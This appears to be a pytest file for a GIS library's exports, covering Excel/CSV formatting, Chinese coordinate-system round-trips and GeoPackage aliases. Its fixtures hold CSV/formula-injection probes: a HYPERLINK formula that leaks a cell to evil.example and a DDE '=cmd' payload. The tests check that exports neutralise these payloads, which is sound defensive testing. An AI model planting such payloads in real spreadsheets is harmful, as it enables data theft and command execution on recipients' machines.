"""Exports people read and GIS opens: the workbook (summary, Chinese headers with units,
formats, frozen header), formula probes coming back as text in every spreadsheet format,
GCJ-02 / BD-09 exports round-tripping to within 1 cm, and GeoPackage field aliases."""

from __future__ import annotations

import csv
import sqlite3
import subprocess
from pathlib import Path

import geopandas as gpd
import numpy as np
import openpyxl
import pytest
import shapely

from layers import validate
from layers.io import export_layer, import_file, read_file, write_file
from layers.io.sheets import Column, Sheet, write_csv, write_workbook
from layers.store import GeoPackageStore, Store

PROBES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "=1+2",
    "@SUM(A1:A9)",
    "+86 10 1234",
    "-3",
]  # a leading tab or CR is stripped when a layer is validated (see the sheet test)


def stations(n: int = 5) -> gpd.GeoDataFrame:
    ids = np.arange(n)
    frame = gpd.GeoDataFrame(
        {
            "station_id": [f"S{i:03d}" for i in ids],
            "name": PROBES[:n],
            "operator": ["=cmd|' /C calc'!A0"] * n,
            "capacity_persons": ids * 1000 + 7,
            "status": ["运营"] * n,
        },
        geometry=gpd.points_from_xy(116.40 + ids * 0.003, 39.91 + ids * 0.002),
        crs=4326,
    )
    return validate(frame, "stations")[0]


@pytest.fixture
def layer_store(tmp_path: Path) -> GeoPackageStore:
    store = GeoPackageStore(tmp_path / "store.gpkg")
    store.write("stations", stations(), kind="stations")
    return store


def assert_no_formula(path: Path) -> list[object]:
    """Every cell of every sheet: no formula; returns the text values."""
    book = openpyxl.load_workbook(path)
    texts = []
    for ws in book:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                texts.append(cell.value)
    return texts


def test_formula_probes_come_back_as_text_in_every_export(
    layer_store: Store, tmp_path: Path
) -> None:
    for path in (
        export_layer(layer_store, "stations", tmp_path / "people.xlsx"),
        write_file(layer_store.read("stations"), tmp_path / "exchange.xlsx"),
    ):
        texts = assert_no_formula(path)
        assert set(PROBES) <= set(texts), path
    people = export_layer(layer_store, "stations", tmp_path / "people.csv")
    exchange = write_file(layer_store.read("stations"), tmp_path / "exchange.csv")
    for path in (people, exchange):
        with path.open(encoding="utf-8-sig", newline="") as f:
            cells = [cell for row in list(csv.reader(f))[1:] for cell in row]
        for probe in PROBES:
            assert f"'{probe}" in cells, (path, probe)
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    back = read_file(exchange)  # mzgis takes its own quote off again
    assert back["name"].tolist() == PROBES


def test_workbook_has_summary_chinese_headers_units_and_formats(
    layer_store: Store, tmp_path: Path
) -> None:
    path = export_layer(layer_store, "stations", tmp_path / "s.xlsx")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["概况 summary", "社区养老服务驿站 stations"]
    summary = {r[0]: r[2] for r in book["概况 summary"].iter_rows(min_row=2, values_only=True)}
    assert summary["图层"].startswith("stations（社区养老服务驿站")
    assert summary["要素数"] == 5 and summary["估算数据"] == "否 no"
    assert summary["数据存储"] == str(layer_store.url)
    table = book["社区养老服务驿站 stations"]
    headers = [c.value for c in table[1]]
    assert headers[:3] == ["驿站编号", "名称", "运营方"]
    assert "服务能力（签约人数）（人）" in headers
    assert headers[-2:] == ["经度（WGS84）", "纬度（WGS84）"]
    assert table.freeze_panes == "A2"
    capacity = table.cell(row=3, column=headers.index("服务能力（签约人数）（人）") + 1)
    assert (capacity.value, capacity.number_format) == (1007, "#,##0")
    lon = table.cell(row=2, column=len(headers))
    assert lon.number_format == "0.000000"
    assert table.column_dimensions["B"].width > 10

    english = openpyxl.load_workbook(
        export_layer(layer_store, "stations", tmp_path / "en.xlsx", lang="en")
    )
    assert english.sheetnames == ["summary", "stations"]
    assert "capacity (signed recipients) (persons)" in [c.value for c in english["stations"][1]]


def test_people_workbook_imports_back(layer_store: Store, tmp_path: Path) -> None:
    path = export_layer(layer_store, "stations", tmp_path / "s.xlsx")
    import_file(layer_store, path, name="copy", kind="stations")
    a, b = layer_store.read("stations"), layer_store.read("copy")
    assert b["name"].tolist() == PROBES
    assert b["capacity_persons"].tolist() == a["capacity_persons"].tolist()
    assert shapely.equals_exact(a.geometry.to_numpy(), b.geometry.to_numpy(), 1e-12).all()


@pytest.mark.parametrize(
    ("crs", "suffix"), [("gcj02", ".xlsx"), ("gcj02", ".csv"), ("bd09", ".geojson")]
)
def test_chinese_web_map_exports_round_trip_within_1_cm(
    layer_store: Store, tmp_path: Path, crs: str, suffix: str
) -> None:
    path = export_layer(layer_store, "stations", tmp_path / f"s{suffix}", crs=crs)
    raw = read_file(path)
    original = layer_store.read("stations").to_crs(32650)
    shifted = raw.to_crs(32650).distance(original, align=False)
    assert (shifted > 100).all()  # the file really is in the web map's system (~600 m)
    import_file(layer_store, path, name="back", kind="stations", crs=crs)
    error_m = layer_store.read("back").to_crs(32650).distance(original, align=False)
    assert error_m.max() < 0.01


def test_geopackage_export_carries_field_aliases(layer_store: Store, tmp_path: Path) -> None:
    path = export_layer(layer_store, "stations", tmp_path / "s.gpkg")
    with sqlite3.connect(path) as con:
        rows = dict(
            con.execute(
                "SELECT column_name, name FROM gpkg_data_columns WHERE table_name = 'stations'"
            ).fetchall()
        )
        description = con.execute(
            "SELECT description FROM gpkg_data_columns WHERE column_name = 'capacity_persons'"
        ).fetchone()[0]
        extensions = con.execute(
            "SELECT table_name FROM gpkg_extensions WHERE extension_name = 'gpkg_schema'"
        ).fetchall()
    assert rows["station_id"] == "驿站编号" and rows["name"] == "名称"
    assert description == "服务能力（签约人数） / capacity (signed recipients) (人)"
    assert ("gpkg_data_columns",) in extensions
    command = ["ogrinfo", "-so", str(path), "stations"]
    ogr = subprocess.run(command, capture_output=True, text=True, check=False)
    assert ogr.returncode == 0 and "Feature Count: 5" in ogr.stdout
    assert len(read_file(path)) == 5


def test_sheet_writer_formats_and_csv(tmp_path: Path) -> None:
    frame = gpd.pd.DataFrame(
        {
            "share": [0.2728202796, 1.0],
            "walk": [1190.383216740624, None],
            "note": ["\tcmd", "\r=1+2"],
        }
    )
    sheet = Sheet(
        "覆盖",
        "coverage",
        frame,
        [
            Column("share", "覆盖率", "covered share", "%", fmt="percent"),
            Column("walk", "步行距离", "walking distance", "m", fmt="metres"),
            Column("note", "备注", "note"),
        ],
    )
    book = openpyxl.load_workbook(write_workbook([sheet], tmp_path / "c.xlsx"))
    ws = book["覆盖 coverage"]
    assert [c.value for c in ws[1]] == ["覆盖率（%）", "步行距离（m）", "备注"]
    notes = [(c.value, c.data_type) for c in ws["C"][1:]]  # XML reads CR back as LF
    assert notes == [("\tcmd", "s"), ("\n=1+2", "s")]
    assert (ws["A2"].value, ws["A2"].number_format) == (0.2728202796, "0.0%")
    assert (ws["B2"].number_format, ws["B3"].value) == ("#,##0", None)
    path = write_csv(sheet, tmp_path / "c.csv", lang="en")
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["covered share (%)", "walking distance (m)", "note"]
    assert [r[2] for r in rows[1:]] == ["'\tcmd", "'\r=1+2"]
